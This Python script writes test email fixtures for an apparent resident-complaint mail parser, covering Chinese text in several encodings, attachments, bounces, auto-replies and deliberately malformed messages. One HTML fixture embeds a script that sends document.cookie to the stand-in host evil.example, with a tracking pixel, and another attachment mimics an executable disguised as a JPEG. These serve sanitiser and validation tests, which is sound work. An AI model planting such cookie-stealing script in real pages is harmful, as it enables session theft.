#!/usr/bin/env python3
"""Makes tests/data/mails: mails as residents, their providers and machines send them, and broken ones.

Every name, address and sentence is invented. Written by hand rather than by a mail library, which would mend what is to
be broken.
"""

import base64
import quopri
import struct
import zlib
from pathlib import Path

HERE = Path(__file__).parent / "mails"


def word(text, charset="utf-8"):
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def head(name, sender, subject, *more, charset="utf-8"):
    lines = [f"From: {word(sender[0], charset)} <{sender[1]}>", "To: <wuye@dawuye.example>"]
    lines += [f"Subject: {word(subject, charset)}" if subject else "Subject:", f"Message-ID: <{name}@mail.example>"]
    lines += ["Date: Fri, 18 Sep 2026 09:12:00 +0800", "MIME-Version: 1.0", *more]
    return "\r\n".join(lines) + "\r\n"


def b64(data):
    text = base64.b64encode(data).decode()
    return "\r\n".join(text[at : at + 76] for at in range(0, len(text), 76)) + "\r\n"


def part(kind, encoding, body, *more):
    lines = [f"Content-Type: {kind}", f"Content-Transfer-Encoding: {encoding}", *more]
    return "\r\n".join(lines) + "\r\n\r\n" + body


def multipart(boundary, parts, end=True):
    text = "".join(f"--{boundary}\r\n{p}\r\n" for p in parts)
    return text + (f"--{boundary}--\r\n" if end else "")


def png():
    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    size = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(b"\0\x20\x80\x40")) + chunk(b"IEND", b"")


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WEBP = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")
WANG = ("王秀兰", "wang@example.com")
LI = ("李先生", "Li.Ming@Example.com")
TEXT = "text/plain; charset=utf-8"

mails = {}
mails["plain"] = head("plain", WANG, "三楼楼道灯不亮", f"Content-Type: {TEXT}", "Content-Transfer-Encoding: base64") + "\r\n" + b64(
    "您好，三楼楼道的灯坏了两天，老人晚上不敢下楼。\n请尽快来修。谢谢！".encode()
)
gbk = "小区北门垃圾桶满溢，气味很重。\r\n希望增加清运次数。"
mails["gbk"] = head("gbk", LI, "投诉：垃圾没人收", "Content-Type: text/plain; charset=gb2312", "Content-Transfer-Encoding: quoted-printable", charset="gb2312") + "\r\n" + quopri.encodestring(
    gbk.encode("gb2312")
).decode()
mails["raw_gbk"] = (
    "From: zhao@example.com\r\nSubject: 三单元漏水\r\nMessage-ID: <raw@mail.example>\r\n\r\n地下室水管漏水，请派人来看。\r\n".encode("gbk")
)
html = (
    "<html><head><style>p{color:red}</style></head><body><div>西门绿地的树枝</div><div>压到了晾衣杆 &amp; 电线</div>"
    "<script>fetch('//evil.example/'+document.cookie)</script><img src=\"https://evil.example/pixel.gif\"><p>请修剪</p></body></html>"
)
mails["html_only"] = head("html", WANG, "树枝", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64") + "\r\n" + b64(html.encode())
both = multipart("in", [part(TEXT, "base64", b64("墙面渗水，照片见附件。".encode())), part("text/html; charset=utf-8", "8bit", "<p>墙面渗水</p>")])
files = [
    part('multipart/alternative; boundary="in"', "8bit", both),
    part('image/jpeg; name="wall.jpg"', "base64", b64(JPEG), 'Content-Disposition: attachment; filename="wall.jpg"'),
    part("image/png", "base64", b64(png()), f"Content-Disposition: inline; filename=\"{word('墙角.png')}\""),
    part("application/octet-stream", "base64", b64(WEBP), 'Content-Disposition: attachment; filename="no-type"'),
    part('image/jpeg; name="virus.jpg"', "base64", b64(b"MZ\x90\0not a photo"), 'Content-Disposition: attachment; filename="virus.jpg"'),
    part('application/pdf; name="a.pdf"', "base64", b64(b"%PDF-1.4 nothing"), 'Content-Disposition: attachment; filename="a.pdf"'),
]
mails["photos"] = head("photos", WANG, "报修：外墙渗水", 'Content-Type: multipart/mixed; boundary="out"') + "\r\n" + multipart("out", files)
mails["reply"] = head("reply", WANG, "回复：您的诉求已登记", "In-Reply-To: <outbox-1@dawuye.example>", "References: <outbox-1@dawuye.example>", f"Content-Type: {TEXT}") + "\r\n谢谢，灯已经修好了。\r\n"
mails["auto_reply"] = head("auto", WANG, "自动回复：出差中", "Auto-Submitted: auto-replied", f"Content-Type: {TEXT}") + "\r\n我在出差。\r\n"
mails["list"] = head("list", ("促销", "sale@shop.example"), "今日特价", "List-Unsubscribe: <https://shop.example/u>", "Precedence: bulk") + "\r\n打折！\r\n"
status = part("message/delivery-status", "7bit", "Reporting-MTA: dns; mail.example\r\n\r\nFinal-Recipient: rfc822; x@example.com\r\nAction: failed\r\n")
mails["bounce"] = head("bounce", ("Mail Delivery System", "MAILER-DAEMON@mail.example"), "Undelivered Mail", 'Content-Type: multipart/report; report-type=delivery-status; boundary="b"', "Return-Path: <>") + "\r\n" + multipart("b", [part(TEXT, "7bit", "not delivered"), status])
mails["own"] = head("outbox-7", ("物业", "bill@dawuye.example"), "您的诉求已登记") .replace("outbox-7@mail.example", "outbox-7@dawuye.example") + "\r\nx\r\n"
mails["stranger"] = head("stranger", ("路人", "someone@elsewhere.example"), "建议增设长椅", f"Content-Type: {TEXT}") + "\r\n东门到西门之间没有一张椅子。\r\n"
mails["empty"] = head("empty", WANG, "") + "\r\n\r\n"
mails["no_sender"] = f"Subject: {word('没有发件人')}\r\nMessage-ID: <nobody@mail.example>\r\n\r\nx\r\n"
mails["no_id"] = head("x", WANG, "路灯坏了", f"Content-Type: {TEXT}").replace("Message-ID: <x@mail.example>\r\n", "") + "\r\n7幢旁的路灯坏了。\r\n"
# Broken off in the middle of a photo, and its boundary never closed.
broken = part('image/jpeg; name="half.jpg"', "base64", b64(JPEG + bytes(400))[:90])
mails["broken"] = head("broken", WANG, "水管爆了", 'Content-Type: multipart/mixed; boundary="cut"') + "\r\n" + multipart("cut", [part(TEXT, "8bit", "快来人"), broken], end=False)
nested = "From: a@example.com\r\nSubject: in\r\n\r\nx\r\n"
for _ in range(60):
    nested = 'From: a@example.com\r\nContent-Type: multipart/mixed; boundary="n"\r\n\r\n' + multipart("n", [part("message/rfc822", "7bit", nested)])
mails["nested"] = head("nested", WANG, "转发：转发：转发", 'Content-Type: multipart/mixed; boundary="top"') + "\r\n" + multipart("top", [part(TEXT, "8bit", "见附件"), part("message/rfc822", "7bit", nested)])
mails["not_a_mail"] = b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4

HERE.mkdir(exist_ok=True)
for name, text in mails.items():
    (HERE / f"{name}.eml").write_bytes(text if isinstance(text, bytes) else text.encode())
